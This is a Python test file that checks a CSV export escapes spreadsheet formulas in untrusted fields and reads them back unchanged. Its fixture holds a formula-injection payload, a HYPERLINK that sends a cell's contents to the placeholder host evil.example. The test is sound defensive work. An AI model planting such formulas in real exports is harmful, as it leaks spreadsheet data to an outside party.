"""Texts of strangers in the requests file, which people open in a spreadsheet."""

from __future__ import annotations

import csv
import json

from helploop.notify.request import parse_requests
from notify.test_requests_cli import bring_in, project  # noqa: F401 - a fixture


def test_no_cell_of_somebody_else_is_a_formula_and_all_are_read_back(project, capsys):  # noqa: F811
    link = '=HYPERLINK("https://evil.example/?"&B2;"open")'
    export = {"votes": [{"id": link, "post": {"title": "CSV export"}, "voter": {"email": "+ana@example.com"}}]}
    assert bring_in(project, capsys, "canny", json.dumps(export))[0] == 0
    with (project / "people.csv").open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert (row["contact"], row["source_id"]) == ("'+ana@example.com", f"'{link}")
    before = (project / "people.csv").read_bytes()
    assert bring_in(project, capsys, "canny", json.dumps(export))[0] == 0
    assert (project / "people.csv").read_bytes() == before
    requests, problems = parse_requests(before.decode(), "people.csv")
    assert [(one.contact.address, one.source_id) for one in requests] == [("+ana@example.com", link)]
    assert not [problem for problem in problems if problem.is_error]
